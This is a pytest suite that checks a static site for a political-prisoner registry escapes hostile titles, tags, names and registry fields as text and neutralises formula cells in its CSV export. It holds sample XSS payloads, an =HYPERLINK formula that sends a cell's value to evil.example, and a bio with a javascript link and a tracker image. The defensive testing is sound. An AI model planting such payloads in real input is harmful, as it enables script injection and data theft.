"""Plain-text fields are text everywhere (issue 13, item 1): a hostile Title, tag, author,
signatory, source or registry field shows as the characters its writer typed, in HTML text,
attributes, JSON-LD, prisoners.json and mentions.json; it never becomes markup. The open-data
CSV neutralises formula cells (item 10)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from tests.sitebuild import VALID, run_pelican, write_article
from tests.test_registry import person, write_yaml

# Each field gets its own marker, so a test can tell which field leaked.
TITLE = 'Hello <a href="javascript:alert(1)">click</a> & <b>bold</b>'
ALIAS = 'x"><a href="javascript:alert(2)">a</a><b class="'


def hostile(tag: str) -> str:
    return f'{tag} <img src=x onerror=alert(1)> "q" & </script><b id="{tag}">'


def quotes_free(text: str) -> str:
    """Text with typographic double quotes as straight ones: titles and registry texts get the
    language's quotation marks (issue 17, content_model/typography.py), which is presentation;
    what these tests hold is that every other character is shown as typed, as text."""
    return re.sub("[“”„«»]", '"', text)


FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Donate")'


def _person() -> dict:
    data = person(
        "anna-test",
        aliases=[ALIAS],
        occupation={"en": hostile("occupation")},
        organisations=[FORMULA, "+1 Workers", "@union", "-Left", "\tTab", "Plain"],
        charges=[{"article": "212", "description": {"en": hostile("charge")}}],
        detention_place={"en": hostile("detention")},
        sources=[{"publication": hostile("source"), "date": "2024"}],
        support=[{"title": hostile("support")}],
        timeline=[{"date": "2024-01", "event": {"en": hostile("timeline")}}],
        letters={"state": "address-unknown", "note": {"en": hostile("letters")}},
    )
    data["names"]["en"] = {"given": "Anna", "family": "Test <i>Family</i> & Co"}
    return data


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    content = root / "content"
    (content / "pages").mkdir(parents=True)
    write_yaml(content, "prisoners", _person())
    write_article(content, "hostile.md", {
        **VALID, "Title": TITLE, "Slug": "hostile",
        "Tags": "<em>tagged</em>, ok",
        "Authors": hostile("author"),
        "Signatories": hostile("signatory"),
        "Source": hostile("publisher"),
        "SourceURL": "https://example.org/original",
        "TranslatedBy": hostile("translator"),
        "Prisoners": "anna-test",
    }, body="Anna Test was arrested.")
    build = run_pelican(content, root / "out")
    assert build.returncode == 0, build.output
    return build


def _no_injected_markup(soup) -> None:
    """Nothing a hostile field carried became an element or an attribute."""
    assert not soup.select('a[href^="javascript:"]')
    assert not soup.select("img[onerror]")
    assert not soup.select("b[id], b[class], i, em")  # the theme uses none of these


def test_title_is_text_in_heading_title_meta_and_listings(hostile_site):
    page = hostile_site.html("articles/hostile/index.html")
    _no_injected_markup(page)
    assert quotes_free(page.select_one("h1").get_text()) == TITLE
    assert quotes_free(page.title.get_text()).startswith(TITLE + " · ")
    assert quotes_free(page.select_one('meta[property="og:title"]')["content"]).startswith(TITLE)
    for listing in ("index.html", "archives/index.html", "category/news/index.html"):
        soup = hostile_site.html(listing)
        _no_injected_markup(soup)
        assert TITLE in [quotes_free(a.get_text()) for a in soup.select("main a")], listing


def test_title_is_the_same_text_in_every_feed_format(hostile_site):
    """A feed reader shows the title the page shows: the characters typed, as text (RSS and
    Atom titles are text; JSON Feed's title is a plain string)."""
    from lxml import etree

    out = hostile_site.out_dir
    rss = etree.parse(str(out / "feeds/all.rss.xml"))
    atom = etree.parse(str(out / "feeds/all.atom.xml"))
    feed = json.loads((out / "feeds/all.json").read_text(encoding="utf-8"))
    titles = {
        "rss": [t.text for t in rss.iterfind("channel/item/title")],
        "atom": [t.text for t in atom.iterfind("{http://www.w3.org/2005/Atom}entry/"
                                               "{http://www.w3.org/2005/Atom}title")],
        "json": [item["title"] for item in feed["items"]]}
    for kind, found in titles.items():
        assert TITLE in [quotes_free(t) for t in found], (kind, found)


def test_article_metadata_lists_are_text(hostile_site):
    page = hostile_site.html("articles/hostile/index.html")
    _no_injected_markup(page)
    assert page.select_one(".p-author").get_text() == hostile("author")
    assert [li.get_text() for li in page.select(".signatories li")] == [hostile("signatory")]
    assert "<em>tagged</em>" in [a.get_text() for a in page.select(".tags a")]
    attribution = page.select_one(".attribution")
    assert attribution.select_one("a").get_text() == hostile("publisher")
    assert attribution.select_one("a")["href"] == "https://example.org/original"
    assert hostile("translator") in attribution.get_text()


def test_tag_page_heading_and_title_are_text(hostile_site):
    tag_pages = [p for p in (hostile_site.out_dir / "tag").iterdir() if p.name != "ok"]
    soup = hostile_site.html(f"tag/{tag_pages[0].name}/index.html")
    _no_injected_markup(soup)
    assert "<em>tagged</em>" in soup.select_one("h1").get_text()
    assert soup.title.get_text().startswith("<em>tagged</em>")


def test_alias_stays_inside_data_names_on_the_index(hostile_site):
    for rel in ("prisoners/index.html", "ru/prisoners/index.html"):
        soup = hostile_site.html(rel)
        _no_injected_markup(soup)
        items = soup.select("li[data-names]")
        assert len(items) == 1, rel
        assert items[0]["data-names"].endswith(" " + ALIAS)
        assert items[0].select_one("a").get_text() == "Anna Test <i>Family</i> & Co" \
            if rel.startswith("prisoners") else True


def test_profile_fields_are_text(hostile_site):
    soup = hostile_site.html("prisoners/anna-test/index.html")
    _no_injected_markup(soup)
    assert soup.select_one("h1").get_text() == "Anna Test <i>Family</i> & Co"
    text = quotes_free(soup.select_one("article.profile").get_text())
    for tag in ("occupation", "charge", "detention", "source", "support", "timeline",
                "letters"):
        assert hostile(tag) in text, tag
    assert FORMULA in text
    assert soup.select_one('meta[name="description"]')["content"].startswith(
        "Anna Test <i>Family</i> & Co: ")


def test_json_ld_is_data_that_cannot_close_its_script(hostile_site):
    raw = (hostile_site.out_dir / "prisoners/anna-test/index.html").read_text(encoding="utf-8")
    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', raw, re.S).group(1)
    assert not re.search(r"[<>&]", block), "<, > and & must be \\u-escaped inside <script>"
    data = json.loads(block)
    assert data["name"] == "Anna Test <i>Family</i> & Co"
    assert ALIAS in data["alternateName"]
    assert quotes_free(data["description"]) == hostile("occupation")


def test_prisoners_json_and_mentions_json_hold_the_characters_typed(hostile_site):
    data = json.loads((hostile_site.out_dir / "prisoners.json").read_text(encoding="utf-8"))
    anna = data["people"][0]
    assert anna["aliases"] == [ALIAS]
    assert anna["names"]["en"]["family"] == "Test <i>Family</i> & Co"
    assert anna["occupation"]["en"] == hostile("occupation")
    mentions = json.loads((hostile_site.out_dir / "mentions.json").read_text(encoding="utf-8"))
    titles = [quotes_free(m["title"]) for m in mentions["people"]["anna-test"]]
    assert titles == [TITLE]


def test_csv_cells_that_would_start_a_formula_are_neutralised(hostile_site):
    text = (hostile_site.out_dir / "prisoners.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    for column, cell in rows[0].items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    orgs = rows[0]["organisations"].split("; ")
    # OWASP: a leading apostrophe makes a spreadsheet show the cell as text; every item of a
    # joined list is treated alike, since a spreadsheet may split the cell at "; ".
    assert orgs == ["'" + FORMULA, "'+1 Workers", "'@union", "'-Left", "'\tTab", "Plain"]
    assert rows[0]["slug"] == "anna-test"
    assert rows[0]["status_as_of"] == "2024-05"


def test_only_document_bodies_and_summaries_are_marked_safe_in_templates():
    """The theme marks as HTML only what the reader's sanitiser produced: a document's content
    and summary. Everything else is autoescaped text."""
    templates = Path(__file__).resolve().parent.parent / "theme" / "templates"
    for path in templates.glob("*.html"):
        for match in re.finditer(r"\{\{([^}]*)\|\s*safe\b", path.read_text(encoding="utf-8")):
            expr = match.group(1).strip()
            # item: a text listed on a home in its own language (multilang.listings.not_yet_in),
            # whose summary is the document's own, from the reader.
            assert re.fullmatch(r"(article|page|item)\.(content|summary)", expr), (path.name, expr)


def test_only_the_registry_bio_is_made_markup_in_python():
    """Python hands templates HTML in four places: the sanitised registry bio, the numbers
    page's charts (drawn from registry numbers by matplotlib; every text escaped by lxml, no
    style or script: registry_numbers/charts.py), the search record (every value through
    markupsafe.escape: site_search/records.py) and a UI string's translation, as Jinja's own
    newstyle gettext makes it (ui_i18n/jinja.py: jinja2.ext._make_new_gettext in one call; a
    msgstr with markup its msgid lacks is refused when the catalogue is read:
    test_ui_catalogue_trust)."""
    plugins = Path(__file__).resolve().parent.parent / "plugins"
    makers = sorted(str(p.relative_to(plugins)) for p in plugins.rglob("*.py")
                    if "tests" not in p.parts and re.search(r"\bMarkup\(", p.read_text("utf-8")))
    assert makers == ["prisoner_registry/views.py", "registry_numbers/__init__.py",
                      "site_search/records.py", "ui_i18n/jinja.py"]


def test_translated_title_is_text_on_the_page_and_in_mentions_json(tmp_path):
    """A title from a content catalogue is text too: shown as typed, never double-escaped."""
    from tests.test_content_catalogues import RU, build, extract, translate

    content = tmp_path / "content"
    write_article(content, "case.md", {**VALID, "Slug": "case", "Summary": "About the case.",
                                       "Prisoners": "anna-test"},
                  "First paragraph about the case.\n\nSecond paragraph.\n\nThird paragraph."
                  "\n\nFourth paragraph.")
    write_yaml(content, "prisoners", person("anna-test"))
    from tests.sitebuild import settings_with

    settings_with(tmp_path / "settings.py", CONTENT_TRANSLATIONS_DIR=str(tmp_path / "po"))
    extract(tmp_path)
    title = 'Дело <b onclick="x()">A</b> & «B»'
    translate(tmp_path, "ru", {**RU, "title": title, "Second paragraph.": "Второй абзац."})
    site = build(tmp_path)
    assert site.returncode == 0, site.output
    page = site.html("ru/articles/case/index.html")
    assert quotes_free(page.select_one("h1").get_text()) == quotes_free(title)
    assert not page.select("b[onclick]")
    mentions = json.loads((site.out_dir / "mentions.json").read_text(encoding="utf-8"))
    titles = {m["lang"]: m["title"] for m in mentions["people"]["anna-test"]}
    assert quotes_free(titles["ru"]) == quotes_free(title)


def test_registry_catalogue_bio_cannot_add_a_live_link_or_a_tracker(tmp_path):
    """A registry catalogue's bio is Markdown made into HTML: whatever it carries, the profile
    gets no script link and nothing that loads from another host."""
    import polib
    from content_i18n.workflow import extract_all

    from tests.sitebuild import settings_with

    content = tmp_path / "content"
    (content / "articles").mkdir(parents=True)
    write_yaml(content, "prisoners", person("anna-test"))
    extract_all(tmp_path, content, tmp_path / "po", ["en", "de"], "en")
    path = tmp_path / "po/de/prisoners/anna-test.po"
    po = polib.pofile(str(path))
    for entry in po:
        if entry.msgctxt == "bio":
            entry.msgstr = ('Text [Spenden](javascript:alert(3)) <svg><image '
                            'href="https://tracker.example/b.png"/></svg> Ende.')
    po.save(str(path))
    settings = settings_with(tmp_path / "settings.py",
                             CONTENT_TRANSLATIONS_DIR=str(tmp_path / "po"))
    site = run_pelican(content, tmp_path / "out", settings=settings)
    if site.returncode == 0:
        soup = site.html("de/prisoners/anna-test/index.html")
        bio = soup.select_one(".bio")
        # The sanitiser would change the entry, so it is not used: the English source shows,
        # marked as English, and the build names the entry (safe_input.sanitiser).
        assert bio["lang"] == "en" and "Spenden" not in bio.get_text(), bio
        assert "anna-test.po: line" in site.output and "msgctxt bio" in site.output
        assert not soup.select('[href^="javascript:"], svg, image')
        assert not [el for el in soup.find_all(True)
                    if any("tracker.example" in str(v) for k, v in el.attrs.items()
                           if k in ("href", "src", "srcset", "xlink:href"))]
    else:  # refusing the entry with its file and line is the other acceptable answer
        assert "po/de/prisoners/anna-test.po" in site.output and "Traceback" not in site.output


def test_tag_feed_rss_channel_description_is_escaped_html(hostile_site):
    """RSS's channel <description> is HTML to readers (feedparser: text/html), so a tag name in
    "Every text tagged “…”" must reach it escaped, as item descriptions do; Atom's subtitle is
    text."""
    import feedparser

    tag_feeds = [p for p in (hostile_site.out_dir / "feeds" / "tag").glob("*.rss.xml")
                 if not p.name.startswith("ok")]
    assert tag_feeds
    for path in tag_feeds:
        rss = feedparser.parse(path.read_bytes())
        assert rss.feed.subtitle_detail.type == "text/html"
        assert "<em>" not in rss.feed.subtitle, path.name
        assert "&lt;em&gt;tagged&lt;/em&gt;" in rss.feed.subtitle, path.name
        atom = feedparser.parse(path.with_name(path.name.replace(".rss.", ".atom.")).read_bytes())
        assert "<em>tagged</em>" in atom.feed.subtitle
